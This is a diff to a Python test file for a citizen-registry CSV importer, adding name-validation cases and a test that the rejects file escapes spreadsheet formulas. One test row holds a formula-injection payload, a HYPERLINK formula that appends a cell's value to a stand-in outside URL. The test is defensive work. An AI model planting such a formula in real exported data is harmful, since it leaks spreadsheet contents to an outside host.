@@ -140,6 +140,12 @@ BAD_ROWS = {
     25: (person(citizen_id="001090000022", full_name="\uac01" * 67), "longer than 200 characters without diacritics"),
     26: (person(citizen_id="1090000023"), "dropped the leading 00"),
     27: (person(citizen_id="001090000024", full_name="Đỗ\x1fVăn Khoa"), "invisible control character"),
+    # A name is letters and a few marks: "=2+3" would be a formula wherever the name is exported.
+    28: (person(citizen_id="001090000025", full_name="=2+3"), "full_name: a name cannot contain '=', '2' or '+'"),
+    29: (person(citizen_id="001090000026", mother_name="Lê Thị 2"), "mother_name: a name cannot contain '2'"),
+    30: (person(citizen_id="001090000027", spouse_name="Lê@Thị Hà"), "spouse_name: a name cannot contain '@'"),
+    31: (person(citizen_id="001090000028", father_name="-Đỗ Văn Cha"), "father_name: a name begins with a letter"),
+    32: (person(citizen_id="001090000029", other_names="Tý/Tèo"), "other_names: a name cannot contain '/'"),
 }
 
 
@@ -156,6 +162,28 @@ def test_every_bad_row_is_rejected_with_its_line_and_a_reason_and_the_rest_impor
     with (tmp_path / "rejects.csv").open(encoding="utf-8") as f:
         first = next(csv.DictReader(f))
     assert first["citizen_id"] == "01090000002" and first["full_name"] == "Đỗ Văn Khoa"  # the row, to fix
+
+
+def test_the_rejects_file_escapes_formulas_and_a_corrected_one_imports_them_back(app_ctx, tmp_path) -> None:  # type: ignore[no-untyped-def]
+    from idsvc.csvsafe import FORMULA_STARTS
+
+    rows = [person(citizen_id="001090000001", full_name='=HYPERLINK("http://x.example/?"&A1,"Mở")'),
+            person(citizen_id="001090000002", sex="X", phone="+84 912 345 678", religion="-", household_id="@H1",
+                   full_name="Y-Moan Ê-đê")]
+    first = run(write_csv(tmp_path / "people.csv", rows), tmp_path)
+    assert (first.imported, first.rejected) == (0, 2)
+    with first.rejects_path.open(encoding="utf-8-sig", newline="") as f:
+        cells = [cell for row in csv.reader(f) for cell in row]
+    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
+    assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"Mở\")" in cells and "'+84 912 345 678" in cells
+    assert "'-" in cells and "'@H1" in cells
+    corrected = tmp_path / "corrected.csv"
+    corrected.write_text(first.rejects_path.read_text(encoding="utf-8-sig").replace(",X,", ",M,"), encoding="utf-8")
+    again = importer.import_file(corrected, actor="test", rejects_path=tmp_path / "rejects-2.csv")
+    assert (again.imported, again.rejected) == (1, 1)  # the formula is still no name
+    assert "full_name: a name cannot contain '='" in read_rejects(again.rejects_path)[2]
+    fixed = service.get_citizen_by_number("001090000002")
+    assert (fixed.phone, fixed.religion, fixed.household.number) == ("+84912345678", "-", "@H1")
 
 
 def test_duplicates_across_chunks_and_against_the_registry(app_ctx, tmp_path, create_citizen) -> None:  # type: ignore[no-untyped-def]
@@ -423,14 +451,13 @@ def test_imported_values_keep_their_types_and_backslashes(app_ctx, tmp_path) -> 
     rows = [person(citizen_id=f"001090000{n:03d}", household_id=f"H{n % 2}", relationship_to_head="head" if n < 2
                    else "child", father_name="Đỗ Văn Cha" if n % 2 else "", date_of_birth="1990" if n == 3 else
                    "1990-06-01") for n in range(6)]
-    rows.append(person(citizen_id="001090000099", full_name="Đỗ Văn \\N", other_names="C:\\dir",
-                       father_id="001060000001",
-                       father_name="A\\B"))
+    rows.append(person(citizen_id="001090000099", place_of_birth="Đỗ Văn \\N", hometown="C:\\dir",
+                       father_id="001060000001", father_name="Đỗ Văn Cha", household_id="H\\9"))
     result = run(write_csv(tmp_path / "people.csv", rows), tmp_path, chunk_size=3)  # the odd row alone in its chunk
     assert result.imported == len(rows), read_rejects(result.rejects_path)
     odd = service.get_citizen_by_number("001090000099")
-    assert (odd.full_name, odd.other_names, odd.household_id) == ("Đỗ Văn \\N", "C:\\dir", None)
-    assert [(r.kind, r.id_number, r.full_name) for r in odd.relatives] == [("father", "001060000001", "A\\B")]
+    assert (odd.place_of_birth, odd.hometown, odd.household.number) == ("Đỗ Văn \\N", "C:\\dir", "H\\9")
+    assert [(r.kind, r.id_number, r.full_name) for r in odd.relatives] == [("father", "001060000001", "Đỗ Văn Cha")]
     year_only = service.get_citizen_by_number("001090000003")
     assert (year_only.birth_year, year_only.birth_month, year_only.birth_day) == (1990, None, None)
     assert year_only.household is not None and year_only.household.head is not None
